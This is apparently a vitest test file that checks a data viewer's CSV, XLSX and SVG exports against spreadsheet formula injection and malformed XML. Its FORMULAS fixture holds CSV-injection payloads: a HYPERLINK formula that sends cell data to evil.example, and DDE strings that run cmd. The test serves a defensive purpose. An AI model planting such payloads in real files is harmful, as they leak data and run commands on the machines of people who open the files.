/**
 * Files a visitor downloads or exports are safe to open (issue 31 §5): no CSV cell from cube
 * data starts a formula in a spreadsheet (OWASP "CSV injection"), while numbers stay numbers; the
 * XLSX workbook holds such text as text, never as a formula; an exported SVG is well-formed XML
 * whatever the page's attributes and the data's text hold.
 */
import { XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { downloadTable, toCsv } from '../../src/domain/viewer/download';
import { exportSvgDocument } from '../../src/domain/viewer/export-svg';
import type { Component } from '../../src/domain/data';
import { toXlsx } from '../../src/web/viewer/xlsx';

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];

const component = (id: string, label: string, measure = false): Component =>
  ({
    __typename: measure ? 'NumericalMeasure' : 'NominalDimension',
    id,
    label,
    cubeIri: 'c',
    isKeyDimension: !measure,
    isNumerical: measure,
    values: [],
  }) as Component;

/** A table whose labels and text values are formulas, with negative and signed numbers beside them. */
const hostileTable = () =>
  downloadTable({
    components: [component('place', '=1+2'), component('code', 'Code'), component('value', '@Value', true)],
    observations: FORMULAS.map((formula, i) => ({ place: formula, code: i % 2 ? '-3.5' : '+41', value: -i - 0.5 })),
  });

/** The cells of a CSV text without quotes (none of these cells holds a comma or a quote but the formulas' own). */
const csvCells = (csv: string) =>
  csv
    .slice(1)
    .split('\r\n')
    .filter(Boolean)
    .map((line) =>
      line
        .match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!
        .slice(0, 3)
        .map((cell) => cell.replace(/,$/, '').replace(/^"|"$/g, '').replace(/""/g, '"')),
    );

describe('downloaded files', () => {
  it('CSV: every text cell that starts with = + - @ tab or CR is text to a spreadsheet; numbers stay numbers', () => {
    const rows = csvCells(toCsv(hostileTable()));
    expect(rows[0]).toEqual(["'=1+2", 'Code', "'@Value"]);
    FORMULAS.forEach((formula, i) => {
      expect(rows[i + 1][0], formula).toBe(`'${formula}`);
      expect(rows[i + 1][1]).toBe(i % 2 ? '-3.5' : '+41');
      expect(rows[i + 1][2]).toBe(String(-i - 0.5));
    });
  });

  it('XLSX: formula text is a string cell, numbers are number cells, and the workbook holds no formula', async () => {
    const { default: ExcelJS } = await import('exceljs');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await toXlsx(hostileTable())) as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('data')!;
    const cells: { type: number; value: unknown }[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => cells.push({ type: cell.type, value: cell.value })));
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
    FORMULAS.forEach((formula, i) => {
      // XML reads a carriage return as a line feed.
      expect(sheet.getRow(i + 2).getCell(1)).toMatchObject({ type: ExcelJS.ValueType.String, value: formula.replace('\r', '\n') });
      expect(sheet.getRow(i + 2).getCell(3)).toMatchObject({ type: ExcelJS.ValueType.Number, value: -i - 0.5 });
    });
  });
});

/** Characters XML 1.0 allows (production [2] Char): a document with any other is not XML. */
const XML_CHARS = /^[\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]*$/u;

describe('exported SVG', () => {
  it('is well-formed XML when a mark key holds U+0000 (as the page serialises an annotated chart) and the texts hold controls', () => {
    // What XMLSerializer writes for an annotation's highlight: the mark key joins category and segment with U+0000.
    const markup = '<g><rect class="annotation-highlight" data-mark-key="2020\u00002021" x="0" y="0" width="10" height="20"/></g>';
    const { svg } = exportSvgDocument({
      width: 640,
      title: 'Title\u0000 with \u0001 controls \uFFFE',
      description: 'Lone \uD800 surrogate',
      legends: [{ type: 'chart', title: 'Legend\u0008', items: [{ key: 'a\u0000b', label: 'Place\u000b <a>', color: '#000', shape: 'square' }] }],
      chart: { markup, width: 600, height: 300 },
      footnotes: ['Source\u001f'],
    });
    expect(XML_CHARS.test(svg), 'characters XML does not allow').toBe(true);
    expect(XMLValidator.validate(svg)).toBe(true);
    expect(svg).toContain('data-mark-key="20202021"');
    expect(svg).toContain('Place &lt;a&gt;');
  });
});
